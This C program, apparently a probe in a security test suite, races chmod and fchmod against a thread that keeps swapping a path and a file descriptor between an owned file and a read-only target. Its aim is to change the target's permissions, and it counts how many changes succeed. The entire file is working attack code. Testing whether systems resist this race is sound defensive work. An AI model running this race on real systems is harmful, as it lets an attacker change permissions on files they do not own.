// Changes the mode of a file that may only be read while another thread swaps what the path, and what the descriptor, means: it is a file
// of one's own at one moment and the target at the next. Ends when the target has changed. Arguments: FILE DIRECTORY, where DIRECTORY may be written.
#include "attack.h"
#include <pthread.h>
#include <stdatomic.h>
#include <time.h>

#define SECONDS 2

static volatile char name[512];
static const char *target;
static char own[512];
static int swapped;
static atomic_bool done;

static void *swap(void *unused) {
  (void)unused;
  const int there = open(target, O_RDONLY | O_CLOEXEC), here = open(own, O_RDONLY | O_CLOEXEC);
  while (!done) {
    for (size_t at = 0; at <= strlen(own); at++) name[at] = own[at];
    dup2(here, swapped);
    for (size_t at = 0; at <= strlen(target); at++) name[at] = target[at];
    dup2(there, swapped);
  }
  return NULL;
}

static mode_t mode_of(const char *path) {
  struct stat found;
  if (stat(path, &found) != 0) refused("stat");
  return found.st_mode;
}

int main(int count, char **words) {
  attempting(count, 2);
  target = words[1];
  snprintf(own, sizeof own, "%s/own", words[2]);
  write_proof(own, "nothing\n");
  strcpy((char *)name, own);
  swapped = open(own, O_RDONLY | O_CLOEXEC);
  pthread_t thread;
  pthread_create(&thread, NULL, swap, NULL);
  long allowed = 0;
  const mode_t before = mode_of(target);
  for (const time_t end = time(NULL) + SECONDS; time(NULL) < end && mode_of(target) == before;) {
    if (chmod((const char *)name, 0640) == 0) allowed++;
    if (fchmod(swapped, 0604) == 0) allowed++;
  }
  done = 1;
  pthread_join(thread, NULL);
  printf("%ld changes were allowed\n", allowed);
  return 0;
}
